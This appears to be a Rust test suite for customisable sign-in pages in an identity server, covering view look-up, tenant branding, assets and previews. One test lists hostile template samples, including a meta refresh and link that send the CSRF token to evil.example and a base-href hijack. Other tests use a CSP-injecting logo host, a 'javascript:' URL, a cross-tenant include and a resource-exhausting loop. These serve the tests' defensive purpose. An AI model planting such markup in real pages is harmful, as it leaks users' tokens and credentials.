//! Appearance of pages: views of four levels, the brand of a tenant, assets, and previews.

use base64::{Engine as _, prelude::BASE64_STANDARD};
use chancery_testkit::{Answer, World, on_both_engines};
use serde_json::{Value, json};

use super::{
    BASE, CALLBACK, PASSWORD, SignInApp,
    browser::Browser,
    change, encode, first,
    passkey::{use_passkey, with_passkey},
    relate, tenant_option,
};
use crate::{id, pointers};

/// A page with a form like the built-in one, and a word that identifies it.
fn marked(word: &str) -> String {
    format!(
        "{{% extends \"Layout\" %}}{{% block main %}}<p>{word} {{{{ application.name }}}}</p>\
         <form method=\"post\" action=\"{{{{ action }}}}\"><input type=\"hidden\" name=\"csrf\" value=\"{{{{ csrf }}}}\">\
         <input name=\"username\"><input name=\"password\" type=\"password\"></form>{{% endblock %}}"
    )
}

async fn put_view(world: &World, location: &str, content: &str) {
    world.make("CustomView", json!({ "location": location, "content": content })).await;
}

async fn shown(world: &World, home: &SignInApp) -> String {
    let page = Browser::new(world).open(&home.request(&[])).await;
    assert_eq!(page.status, 200, "{}", page.html);
    page.html
}

async fn preview(world: &World, body: Value) -> Answer {
    world.admin.post(&format!("{BASE}/CustomView/preview"), body).await
}

/// Number of custom views that failed.
async fn failed(world: &World) -> u64 {
    let text = world.admin.get("/metrics").await.is(200);
    let text = String::from_utf8(text.bytes.to_vec()).unwrap();
    let line = text.lines().find(|line| line.starts_with("chancery_views_failed_total")).unwrap();
    line.rsplit(' ').next().unwrap().parse().unwrap()
}

on_both_engines! {
    /// Order of the look-up: tenant, client app, subscription, installation.
    ///
    /// - Effect of `CustomView.content`: The page is made from this template.
    /// - Effect of `CustomView.location`: The path names the page, and the app, tenant, subscription or installation that the view is for.
    async fn the_most_specific_view_is_shown(world: World) {
        let home = SignInApp::new(&world).await;
        assert!(shown(&world, &home).await.contains("name=\"password\""));
        let subscription = home.app["subscriptionId"].as_str().unwrap();
        let levels = [
            ("of all".to_owned(), "/views/global/SignIn".to_owned()),
            ("of the subscription".to_owned(), format!("/views/subscription/{subscription}/SignIn")),
            ("of the app".to_owned(), format!("/views/clientapp/{}/SignIn", id(&home.app))),
            ("of the tenant".to_owned(), format!("/views/tenant/{}/SignIn", home.tenant)),
        ];
        for (word, location) in &levels {
            put_view(&world, location, &marked(word)).await;
            let html = shown(&world, &home).await;
            assert!(html.contains(&format!("<p>{word} Harbour Ledger</p>")), "{html}");
        }
        // people can sign in with it; it is sent unchanged
        let mut browser = Browser::new(&world);
        let page = browser.open(&home.request(&[])).await;
        assert!(browser.sign_in(&page, "ann", PASSWORD).await.contains("code="));
        world.admin.delete(&format!("{BASE}/CustomView{}", levels[3].1)).await.expect(204);
        assert!(shown(&world, &home).await.contains("of the app"));
        assert_eq!(failed(&world).await, 0);
    }

    /// A view of one owner is not shown on pages of another owner.
    async fn views_apply_to_pages_of_their_owner_only(world: World) {
        let home = SignInApp::new(&world).await;
        let subscription = first(&world, "/Subscription").await;
        let other = world.make("Tenant", json!({ "name": "Lighthouse", "subscriptionId": subscription["id"] })).await;
        put_view(&world, &format!("/views/tenant/{}/SignIn", id(&other)), &marked("elsewhere")).await;
        put_view(&world, &format!("/views/tenant/{}/Mark", id(&other)), "contraband").await;
        put_view(&world, "/my/SignIn", &marked("nobody's")).await;
        let html = shown(&world, &home).await;
        assert!(!html.contains("elsewhere") && !html.contains("nobody"), "{html}");
        // another owner's view cannot be included
        let theft = format!("{{% include \"/views/tenant/{}/Mark\" %}}", id(&other));
        put_view(&world, &format!("/views/tenant/{}/SignIn", home.tenant), &theft).await;
        let html = shown(&world, &home).await;
        assert!(!html.contains("contraband") && html.contains("name=\"password\""), "{html}");
        assert_eq!(failed(&world).await, 1);
        // an app of another subscription does not affect the appearance of a tenant's pages
        let far = world.other_subscription("Far").await;
        let app = world.make("ClientApp", json!({ "name": "Guest", "subscriptionId": far, "allowCrossSubscription": true })).await;
        relate(&world, &format!("/ClientApp/{}/tenants", id(&app)), &[&home.tenant]).await;
        let instance = first(&world, "/IdpInstance").await;
        relate(&world, &format!("/IdpInstance/{}/clientapps", id(&instance)), &[id(&home.app), id(&app)]).await;
        let uri = json!({ "clientAppId": app["id"], "uri": CALLBACK, "redirectUriType": "Login" });
        world.make("ClientAppRedirectUri", uri).await;
        put_view(&world, &format!("/views/clientapp/{}/SignIn", id(&app)), &marked("of a guest")).await;
        let page = Browser::new(&world).open(&home.request(&[("client_id", id(&app))])).await;
        assert!(page.status == 200 && !page.html.contains("of a guest"), "{}", page.html);
    }

    /// A view that fails to render is replaced by the built-in one, and counted.
    async fn a_failing_view_is_replaced_by_the_shipped_page(world: World) {
        let home = SignInApp::new(&world).await;
        let layout = format!("/views/tenant/{}/Layout", home.tenant);
        for (content, count) in [("{{ nothing.there }}", 1), ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}", 2)] {
            world.admin.delete(&format!("{BASE}/CustomView{layout}")).await;
            let created = world.admin.post(&format!("{BASE}/CustomView"), json!({ "location": layout, "content": content })).await;
            if created.status == 400 {
                continue;
            }
            let html = shown(&world, &home).await;
            assert!(html.contains("name=\"password\"") && html.contains("class=\"card\""), "{html}");
            assert_eq!(failed(&world).await, count, "{content}");
        }
        // error pages are rendered from views, too
        let page = Browser::new(&world).open(&format!("/t/{}/connect/authorize?client_id=none", home.tenant)).await;
        assert!(page.status == 400 && page.html.contains("class=\"card\""), "{}", page.html);
    }

    /// Name, colour, logo and links are options of the tenant. The policy permits the logo's host, and no other.
    ///
    /// - Effect of `Tenant options.BrandColour`: Buttons and links of sign-in pages have this colour.
    /// - Effect of `Tenant options.BrandLogo`: Sign-in pages show this picture.
    /// - Effect of `Tenant options.BrandName`: Sign-in pages show this name.
    /// - Effect of `Tenant options.PageLinks`: Sign-in pages have these links at their foot.
    async fn pages_show_the_brand_of_the_tenant(world: World) {
        let home = SignInApp::new(&world).await;
        for (name, value) in [
            ("BrandName", "Harbour & Sons"), ("BrandColour", "#22406b"), ("BrandLogo", "https://cdn.example/logo.svg"),
            ("PageLinks", "Privacy notice https://harbour.example/privacy, Imprint /imprint"),
        ] {
            tenant_option(&world, &home, name, value).await;
        }
        let page = Browser::new(&world).open(&home.request(&[])).await;
        for part in [
            "· Harbour &amp; Sons</title>", "--accent: #22406b", "src=\"https://cdn.example/logo.svg\"",
            "href=\"https://harbour.example/privacy\">Privacy notice</a>", "href=\"/imprint\">Imprint</a>",
        ] {
            assert!(page.html.contains(part), "{part} in {}", page.html);
        }
        let policy = page.answer.header("content-security-policy").unwrap();
        assert!(policy.contains("img-src 'self' data: https://cdn.example;"), "{policy}");
        // a logo can be an asset of this server
        tenant_option(&world, &home, "BrandLogo", "/assets/global/logo.png").await;
        assert!(shown(&world, &home).await.contains("src=\"/content/assets/global/logo.png\""));
        // its path is already percent-encoded
        tenant_option(&world, &home, "BrandLogo", "/assets/global/our%20logo.png").await;
        assert!(shown(&world, &home).await.contains("src=\"/content/assets/global/our%20logo.png\""));
        // a host that would inject a directive is not put into the policy
        tenant_option(&world, &home, "BrandLogo", "https://a;script-src/logo").await;
        let page = Browser::new(&world).open(&home.request(&[])).await;
        let policy = page.answer.header("content-security-policy").unwrap();
        assert!(policy.contains("img-src 'self' data:; ") && !policy.contains("https://a"), "{policy}");
        for (name, value) in [("BrandColour", "red"), ("BrandLogo", "javascript:x"), ("PageLinks", "Imprint")] {
            tenant_option(&world, &home, name, value).await;
            let option = first(&world, &format!("/Option?filter={}", encode(&format!("name eq \"{name}\"")))).await;
            assert_eq!(option["hasConfigurationError"], true, "{name}");
        }
        assert!(shown(&world, &home).await.contains("name=\"password\""), "what is wrong keeps nobody out");
    }

    /// Nobody can sign in at a tenant with contradictory options until they are corrected.
    async fn invalid_or_contradictory_options_close_a_tenant(world: World) {
        let home = SignInApp::new(&world).await;
        for (option, value, is_open) in [
            ("SessionAbsoluteLifetime", "7.00:00:00", false),
            ("SessionAbsoluteLifetime", "30.00:00:00", true),
            ("EmailConfirmationRequired", "yes", false),
            ("EmailConfirmationRequired", "true", true),
        ] {
            tenant_option(&world, &home, option, value).await;
            let page = Browser::new(&world).open(&home.request(&[])).await;
            assert_eq!(page.html.contains("name=\"password\""), is_open, "{option} {value}: {}", page.html);
            let console = Browser::new(&world).open("/console").await;
            assert!(console.html.contains("name=\"password\""), "{option} {value}: {}", console.html);
        }
    }

    /// Authors of views of the platform's sign-in could attack people with more rights. These pages are therefore the built-in ones,
    /// with the tenant's brand.
    async fn sign_ins_to_the_platform_use_shipped_pages(world: World) {
        let home = SignInApp::new(&world).await;
        let near = world.client("near", &[("TenantAdmin", Some(home.tenant.parse().unwrap()), None)]).await;
        let of_tenant = json!({ "location": format!("/views/tenant/{}/SignIn", home.tenant), "content": marked("of the tenant") });
        near.post(&format!("{BASE}/CustomView"), of_tenant).await.expect(201);
        put_view(&world, "/views/global/Layout", "<p>of all</p>{% block main %}{% endblock %}").await;
        put_view(&world, &format!("/views/clientapp/{}/SignIn", id(&home.app)), &marked("of the app")).await;
        tenant_option(&world, &home, "BrandName", "Harbour & Sons").await;
        assert!(shown(&world, &home).await.contains("<p>of the tenant"));
        let is_shipped = |html: &str| {
            assert!(html.contains("class=\"card\"") && !html.contains("<p>of "), "{html}");
            assert!(html.contains("· Harbour &amp; Sons</title>"), "{html}");
        };
        let page = Browser::new(&world).open("/console").await;
        assert!(page.html.contains("name=\"password\""), "{}", page.html);
        is_shipped(&page.html);
        for key in ["PlatformManagementService", "PlatformUserStoreService"] {
            let resource = world.make("ClientAppResource", json!({ "clientAppId": home.app["id"], "key": key })).await;
            let mut browser = Browser::new(&world);
            let page = browser.open(&home.request(&[])).await;
            is_shipped(&page.html);
            is_shipped(&browser.type_password(&page, "ann", "not this one").await.html);
            let posted = home.request(&[("response_mode", "form_post"), ("prompt", "none")]);
            is_shipped(&browser.open(&format!("/t/{}{posted}", home.tenant)).await.html);
            world.admin.delete(&format!("{BASE}/ClientAppResource/{}", id(&resource))).await.expect(204);
        }
        assert!(shown(&world, &home).await.contains("<p>of the tenant"));
    }

    /// Input of a page is sent only to this server's step. Attributes that a page would lose are refused; what samples do not show is
    /// removed when the page is rendered.
    async fn views_cannot_send_input_to_other_sites(world: World) {
        let home = SignInApp::new(&world).await;
        let location = format!("/views/tenant/{}/SignIn", home.tenant);
        let tricks = [
            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?{{ csrf }}\">", "<meta>", "http-equiv"),
            ("<base href=\"https://evil.example/\">", "<base>", "<base"),
            ("<form method=\"get\" action=\"/device\"><input type=\"password\" name=\"user_code\"></form>", "<form>", "user_code"),
            ("<form method=\"post\" action=\"/console/ClientAppRole/new\"><input name=\"a\"></form>", "<form>", "ClientAppRole"),
            ("<button formaction=\"/console\">x</button>", "<button>", "formaction"),
            ("<script src=\"/content/assets/global/x.js\"></script>", "<script>", "x.js"),
            ("<form method=\"post\" action=\"{{ action | url }}\" data-options=\"&#123;&quot;challenge&quot;:&quot;AAAA&quot;&#125;\"></form>", "form data-options", "AAAA"),
            ("<a href=\"https://evil.example/{{ csrf }}\">x</a>", "a href", "evil.example"),
        ];
        for (html, lost, mark) in tricks {
            let content = format!("<!DOCTYPE html><title>own</title><p>{html}");
            let body = json!({ "location": location, "content": content });
            let problem = world.admin.post(&format!("{BASE}/CustomView"), body).await.problem(400, "invalid-request");
            assert_eq!(pointers(&problem), ["/content"]);
            assert!(problem["errors"][0]["detail"].as_str().unwrap().contains(lost), "{problem}");
            // the samples have links, but this tenant has none
            put_view(&world, &location, &format!("<!DOCTYPE html><title>own</title><p>{{% if not links %}}{html}{{% endif %}}")).await;
            let html = shown(&world, &home).await;
            assert!(html.contains("<title>own</title>") && !html.contains(mark), "{html}");
            world.admin.delete(&format!("{BASE}/CustomView{location}")).await.expect(204);
        }
        assert_eq!(failed(&world).await, 0);
    }

    /// An authenticator gets the options of the page's own script, whoever wrote the page.
    async fn a_custom_view_has_the_script_of_its_page(world: World) {
        let (home, authenticator) = with_passkey(&world).await;
        let view = "<form method=\"post\" action=\"{{ action }}\" data-passkey><input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\">\
            <input type=\"hidden\" name=\"credential\" value=\"\"><button>own</button></form>";
        put_view(&world, &format!("/views/tenant/{}/SignIn", home.tenant), view).await;
        let mut browser = Browser::new(&world);
        let page = browser.open(&home.request(&[])).await;
        assert!(page.html.contains("data-passkey=\"get\" data-options=\"{") && page.html.contains("<button>own"), "{}", page.html);
        let next = use_passkey(&mut browser, &page, &authenticator, &home.user).await;
        assert!(browser.continue_to_app(&next).await.contains("code="));
        // a page without such a form has no script
        let page = "<form method=\"post\" action=\"{{ action }}\">{% for field in fields %}<input type=\"hidden\" name=\"{{ field.name }}\" value=\"{{ field.value }}\">{% endfor %}</form>";
        put_view(&world, &format!("/views/tenant/{}/Continue", home.tenant), page).await;
        let page = browser.open(&home.request(&[("response_mode", "form_post")])).await;
        assert!(page.html.contains("<script src=\"/signin/post.js\" defer></script>"), "{}", page.html);
        home.redeem(&world, &page.field("code"), &[]).await.expect(200);
    }

    /// The URL of a picture could leak a secret: custom pages that show secrets load no external pictures.
    async fn pages_with_secrets_load_no_external_content(world: World) {
        let home = SignInApp::new(&world).await;
        tenant_option(&world, &home, "BrandLogo", "https://cdn.example/logo.svg").await;
        let request = format!("/t/{}{}", home.tenant, home.request(&[("response_mode", "form_post"), ("prompt", "none")]));
        let policy = async || {
            let page = Browser::new(&world).open(&request).await;
            page.answer.header("content-security-policy").unwrap().to_owned()
        };
        assert!(policy().await.contains("img-src 'self' data: https://cdn.example;"));
        put_view(&world, &format!("/views/tenant/{}/Layout", home.tenant), "{% block main %}{% endblock %}").await;
        assert!(policy().await.contains("img-src 'self' data:; "));
        let page = Browser::new(&world).open(&home.request(&[])).await;
        assert!(page.answer.header("content-security-policy").unwrap().contains("https://cdn.example;"));
    }

    /// Properties that administrators set on an app can be shown in its views, escaped.
    ///
    /// - Effect of `ClientAppMetadata.key`: Custom views get the entry as `application.metadata` under this key.
    /// - Effect of `ClientAppMetadata.value`: Custom views get this value under the entry's key.
    async fn views_can_show_properties_of_the_app(world: World) {
        let home = SignInApp::new(&world).await;
        let view = "<html lang=\"{{ language }}\">{{ application.metadata.motto }} {{ application.metadata.none }}";
        put_view(&world, &format!("/views/clientapp/{}/SignIn", id(&home.app)), view).await;
        assert!(shown(&world, &home).await.contains("name=\"password\"") , "the entry is not there yet");
        let entries = format!("{BASE}/ClientApp/{}/ClientAppMetadata", id(&home.app));
        for (key, value) in [("motto", json!("<b>calm</b>")), ("none", Value::Null)] {
            world.admin.post(&entries, json!({ "key": key, "value": value })).await.expect(201);
        }
        let html = shown(&world, &home).await;
        assert!(html.contains("&lt;b&gt;calm") && !html.contains("<b>calm"), "{html}");
    }

    /// Properties that administrators set on an instance can be shown in views of pages about it: if it is the only one offered, and
    /// as soon as the instance of the person is known.
    ///
    /// - Effect of `IdpInstance.icon`: The button of the instance on the sign-in page, and views as `provider.icon`, show this image among
    ///   the custom assets.
    /// - Effect of `IdpInstanceMetadata.key`: Views get the entry as `provider.metadata` under this key.
    /// - Effect of `IdpInstanceMetadata.value`: Views get this value under the entry's key.
    async fn views_can_show_properties_of_the_instance(world: World) {
        let home = SignInApp::new(&world).await;
        let store = first(&world, "/IdpInstance").await;
        tenant_option(&world, &home, "TermsVersion", "1").await;
        tenant_option(&world, &home, "TermsUrl", "https://northwind.example/terms").await;
        let view = "<p>{{ provider.name }}: {{ provider.metadata.motto }}, {{ provider.metadata.none }}</p>\
            {% if provider.icon | default %}<img src=\"{{ provider.icon | url }}\" alt=\"\">{% endif %}";
        let sign_in = format!("{}{view}{}", "{% extends \"Layout\" %}{% block main %}", "{% endblock %}");
        put_view(&world, &format!("/views/tenant/{}/SignIn", home.tenant), &sign_in).await;
        put_view(&world, &format!("/views/tenant/{}/Terms", home.tenant), &sign_in).await;
        assert!(shown(&world, &home).await.contains("name=\"password\""), "the entries are not there yet");
        let entries = format!("{BASE}/IdpInstance/{}/IdpInstanceMetadata", id(&store));
        for (key, value) in [("motto", json!("<b>calm</b>")), ("none", Value::Null)] {
            world.admin.post(&entries, json!({ "key": key, "value": value })).await.expect(201);
        }
        let html = shown(&world, &home).await;
        assert!(html.contains("default: &lt;b&gt;calm") && !html.contains("<b>calm"), "{html}");
        let entry = world.admin.get(&format!("{entries}/motto")).await.is(200).json();
        let changed = json!({ "value": "still", "concurrencyToken": entry["concurrencyToken"] });
        world.admin.patch(&format!("{entries}/motto"), changed).await.expect(202);
        assert!(shown(&world, &home).await.contains("default: still, "));
        // IdpInstance.icon
        let location = "/assets/global/harbour.svg";
        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h1v1z\"/></svg>";
        let asset = json!({ "location": location, "mimetype": "image/svg+xml", "data": BASE64_STANDARD.encode(svg) });
        world.make("CustomAsset", asset).await;
        let picture = format!("src=\"/content{location}\"");
        for (icon, is_shown) in [("", false), (location, true)] {
            change(&world, &format!("/IdpInstance/{}", id(&store)), json!({ "icon": icon })).await;
            let html = shown(&world, &home).await.replace("&#x2f;", "/");
            assert_eq!(html.contains(&picture), is_shown, "{icon}: {html}");
        }
        // of two that are offered none is selected until the person is known
        let other = world.make("IdpInstance", json!({ "name": "harbour", "idpTypeId": store["idpTypeId"] })).await;
        relate(&world, &format!("/IdpInstance/{}/tenants", id(&other)), &[&home.tenant]).await;
        relate(&world, &format!("/IdpInstance/{}/clientapps", id(&other)), &[id(&home.app)]).await;
        let mut browser = Browser::new(&world);
        let page = browser.open(&home.request(&[])).await;
        assert!(page.html.contains("name=\"password\""), "{}", page.html);
        let next = browser.type_password(&page, "ann", PASSWORD).await;
        assert!(next.html.contains("default: still, "), "{}", next.html);
    }

    /// - Effect of `CustomAsset.data`: These bytes are served.
    /// - Effect of `CustomAsset.location`: The asset is served at this path.
    /// - Effect of `CustomAsset.mimetype`: The asset is served with this media type.
    async fn assets_are_public(world: World) {
        let home = SignInApp::new(&world).await;
        let location = format!("/assets/tenant/{}/site.css", home.tenant);
        let body = json!({ "location": location, "mimetype": "text/css", "data": BASE64_STANDARD.encode("p{color:red}") });
        let created = world.make("CustomAsset", body).await;
        let path = format!("/content{location}");
        let answer = world.anonymous.get(&path).await.is(200);
        assert_eq!(&answer.bytes[..], b"p{color:red}");
        assert_eq!(answer.header("content-type"), Some("text/css"));
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(answer.header("cache-control"), Some("public, max-age=300"));
        assert!(answer.header("content-security-policy").unwrap().contains("sandbox"));
        assert_eq!(answer.header("set-cookie"), None);
        let tag = answer.header("etag").unwrap().to_owned();
        let known = [("if-none-match", tag.as_str())];
        let again = world.anonymous.send(http::Method::GET, &path, &known, Vec::new()).await;
        assert_eq!((again.status.as_u16(), again.bytes.len()), (304, 0));
        let head = world.anonymous.send(http::Method::HEAD, &path, &[], Vec::new()).await;
        assert_eq!((head.status.as_u16(), head.bytes.len()), (200, 0));
        let change = json!({ "data": BASE64_STANDARD.encode("p{}"), "concurrencyToken": created["concurrencyToken"] });
        world.admin.patch(&format!("{BASE}/CustomAsset{location}"), change).await.expect(202);
        let changed = world.anonymous.send(http::Method::GET, &path, &known, Vec::new()).await.is(200);
        assert_eq!(&changed.bytes[..], b"p{}");
        put_view(&world, "/views/global/Mark", "x").await;
        for none in ["/content/views/global/Mark", "/content/assets/global/none.css", "/content/assets/../x", "/content/a//b"] {
            world.anonymous.get(none).await.problem(404, "not-found");
        }
        world.anonymous.post(&path, json!({})).await.problem(405, "method-not-allowed");
        world.admin.delete(&format!("{BASE}/CustomAsset{location}")).await.expect(204);
        world.anonymous.get(&path).await.problem(404, "not-found");
    }

    /// Each permitted media type of an asset is served unchanged.
    async fn assets_are_served_with_their_media_types(world: World) {
        let contents: [(&str, &[u8]); 14] = [
            ("application/json", b"{}"), ("application/pdf", b"%PDF-1.7\n"), ("font/otf", b"OTTO"), ("font/ttf", b"true"),
            ("font/woff", b"wOFF"), ("font/woff2", b"wOF2"), ("image/gif", b"GIF89a"), ("image/jpeg", &[0xff, 0xd8, 0xff]),
            ("image/png", b"\x89PNG\r\n\x1a\n"), ("image/svg+xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
            ("image/webp", b"RIFF\0\0\0\0WEBP"), ("image/x-icon", &[0, 0, 1, 0]), ("text/css", b"p{}"), ("text/plain", b"a"),
        ];
        for (number, (kind, content)) in contents.into_iter().enumerate() {
            let location = format!("/assets/global/file{number}");
            let body = json!({ "location": location, "mimetype": kind, "data": BASE64_STANDARD.encode(content) });
            world.make("CustomAsset", body).await;
            let answer = world.anonymous.get(&format!("/content{location}")).await.is(200);
            assert_eq!((answer.header("content-type"), &answer.bytes[..]), (Some(kind), content));
        }
    }

    /// A view with an unknown page name is refused, and the error suggests the right name. Components have names of their own. Stored
    /// views remain.
    async fn a_misspelt_view_name_is_refused(world: World) {
        let (tenant, path) = (first(&world, "/Tenant").await, format!("{BASE}/CustomView"));
        let create = async |location: &str| {
            world.admin.post(&path, json!({ "location": location, "content": "x" })).await
        };
        let of_tenant = format!("/views/tenant/{}/SignOn", id(&tenant));
        for (location, meant) in [
            ("/views/global/signin", "did you mean SignIn?"),
            (of_tenant.as_str(), "did you mean SignIn?"),
            ("/views/global/SecondFaktor", "did you mean SecondFactor?"),
            ("/views/global/Account", "Account is none here"),
        ] {
            let problem = create(location).await.problem(400, "invalid-request");
            assert_eq!(pointers(&problem), ["/location"]);
            assert!(problem["errors"][0]["detail"].as_str().unwrap().contains(meant), "{problem}");
        }
        create("/views/global/HarbourFooter").await.expect(201);
        let created = create("/views/global/Choose").await.is(201).json();
        // a view that an earlier release accepted
        world.sql(vec![("UPDATE custom_view SET location = '/views/global/Chose' WHERE location = '/views/global/Choose'", Vec::new())]).await;
        let same = json!({ "location": "/views/global/Chose", "content": "x", "concurrencyToken": created["concurrencyToken"] });
        let updated = world.admin.put(&format!("{path}/views/global/Chose"), same).await.is(202).json();
        let changed = json!({ "content": "y", "concurrencyToken": updated["concurrencyToken"] });
        world.admin.patch(&format!("{path}/views/global/Chose"), changed).await.expect(202);
    }

    /// A preview renders the draft together with the views of its owner, and writes nothing.
    async fn a_preview_shows_the_draft_of_a_view(world: World) {
        let home = SignInApp::new(&world).await;
        let location = format!("/views/tenant/{}/SignIn", home.tenant);
        let draft = |content: &str| json!({ "location": location, "content": content });
        put_view(&world, &format!("/views/tenant/{}/Layout", home.tenant), "<html lang=\"{{ language }}\">frame {% block main %}{% endblock %}").await;
        let rendered = preview(&world, draft(&marked("tried"))).await.is(200).json();
        let html = rendered["html"].as_str().unwrap();
        assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">") && html.contains("frame <p>tried"), "{rendered}");
        assert_eq!((&rendered["page"], &rendered["failure"]), (&json!("SignIn"), &Value::Null));
        assert!(rendered["samples"].as_array().unwrap().contains(&rendered["sample"]));
        assert!(!shown(&world, &home).await.contains("tried"));
        let mut german = draft(&marked("tried"));
        german["language"] = json!("de");
        assert!(preview(&world, german).await.is(200).json()["html"].as_str().unwrap().contains("<html lang=\"de\">"));
        // a component is shown within a page with the tenant's brand
        tenant_option(&world, &home, "BrandName", "Harbour & Sons").await;
        let style = json!({ "location": format!("/views/tenant/{}/Layout", home.tenant), "content": "{{ brand.name }}{% block main %}{% endblock %}", "page": "Consent" });
        let rendered = preview(&world, style).await.is(200).json();
        assert!(rendered["page"] == "Consent" && rendered["html"].as_str().unwrap().contains("<body>Harbour &amp; Sons"), "{rendered}");
        // an error is reported with its line
        let rendered = preview(&world, draft("<p>\n {{ nothing.there }}")).await.is(200).json();
        let failure = &rendered["failure"];
        assert_eq!((&rendered["html"], &failure["view"], &failure["line"]), (&Value::Null, &json!("SignIn"), &json!(2)));
        let rendered = preview(&world, draft("<p>\n{% if %}</p>")).await.is(200).json();
        assert_eq!(rendered["failure"]["line"], 2, "{rendered}");
        for (member, value) in [("page", json!("None")), ("sample", json!("none")), ("location", json!("/my/SignIn")), ("location", json!(format!("/views/tenant/{}/SignIn", id(&home.app))))] {
            let mut wrong = draft("x");
            wrong[member] = value;
            assert_eq!(pointers(&preview(&world, wrong).await.problem(400, "invalid-request")), [format!("/{member}")]);
        }
        // views of another owner are not visible
        let near = world.client("near", &[("TenantAdmin", Some(home.tenant.parse().unwrap()), None)]).await;
        near.post(&format!("{BASE}/CustomView/preview"), draft("{{ brand.name }}")).await.expect(200);
        let subscription = first(&world, "/Subscription").await;
        let other = world.make("Tenant", json!({ "name": "Lighthouse", "subscriptionId": subscription["id"] })).await;
        let theirs = json!({ "location": format!("/views/tenant/{}/SignIn", id(&other)), "content": "x" });
        assert_eq!(pointers(&near.post(&format!("{BASE}/CustomView/preview"), theirs).await.problem(400, "invalid-request")), ["/location"]);
    }

    /// The views of one owner are parsed together, so their size is limited.
    async fn views_of_an_owner_are_limited(world: World) {
        let views = |from: usize, to: usize| -> Value {
            (from..to).map(|at| json!({ "location": format!("/views/global/v{at}"), "content": "x" })).collect()
        };
        let batch = format!("{BASE}/CustomView/batch");
        world.admin.post(&batch, views(0, 99)).await.expect(200);
        let problem = world.admin.post(&batch, views(99, 101)).await.problem(400, "invalid-request");
        assert_eq!(pointers(&problem), ["/1/location"]);
        let long = "x".repeat(1 << 20);
        let two = json!([{ "location": "/views/global/v0", "content": long }, { "location": "/views/global/v1", "content": long }]);
        let rows = world.admin.get(&format!("{BASE}/CustomView")).await.is(200).json();
        let token = |location: &str| rows.as_array().unwrap().iter().find(|row| row["location"] == location).unwrap()["concurrencyToken"].clone();
        let mut two = two;
        for at in 0..2 {
            let location = two[at]["location"].as_str().unwrap().to_owned();
            two[at]["concurrencyToken"] = token(&location);
        }
        let problem = world.admin.put(&batch, two).await.problem(400, "invalid-request");
        assert_eq!(pointers(&problem), ["/1/content"]);
        change(&world, "/CustomView/views/global/v0", json!({ "content": "y" })).await;
        // another owner has a limit of its own
        let tenant = first(&world, "/Tenant").await;
        put_view(&world, &format!("/views/tenant/{}/v0", id(&tenant)), "x").await;
    }
}
